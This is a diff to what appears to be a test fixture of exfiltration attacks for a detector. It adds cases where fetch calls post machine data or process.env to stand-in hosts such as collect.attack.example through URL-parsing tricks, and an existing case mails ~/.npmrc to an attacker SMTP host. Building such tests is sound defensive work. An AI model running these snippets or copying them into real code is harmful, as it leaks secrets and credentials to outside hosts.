@@ -27,6 +27,18 @@ const ATTACKS: Readonly<Record<string, readonly [code: string, manifest?: object
   'a host that looks like a path': [
     `${MACHINE} fetch(new URL('/\\\\collect.attack.example/x', 'http://localhost'), { method: 'POST', body: machine });`,
   ],
+  'a path with a base elsewhere': [
+    `${MACHINE} fetch(new URL('/x', 'https://collect.attack.example'), { method: 'POST', body: machine });`,
+  ],
+  'a page with a login as its host': [
+    `${MACHINE} fetch('https://' + location.host + ':x@collect.attack.example/', { method: 'POST', body: machine });`,
+  ],
+  'a host that begins with that of the page': [
+    `${MACHINE} fetch('https://' + location.host + '.attack.example/', { method: 'POST', body: machine });`,
+  ],
+  'a page that a program says it has': [
+    `globalThis.location = { host: '${HOST}' }; fetch('https://' + location.host, { method: 'POST', body: JSON.stringify(process.env) });`,
+  ],
   'a file of credentials as an attachment': [
     `const os = require('os'); require('nodemailer').createTransport({ host: 'smtp.attack.example' }).sendMail({ to: 'a@b.example', attachments: [{ path: os.homedir() + '/.npmrc' }] });`,
   ],
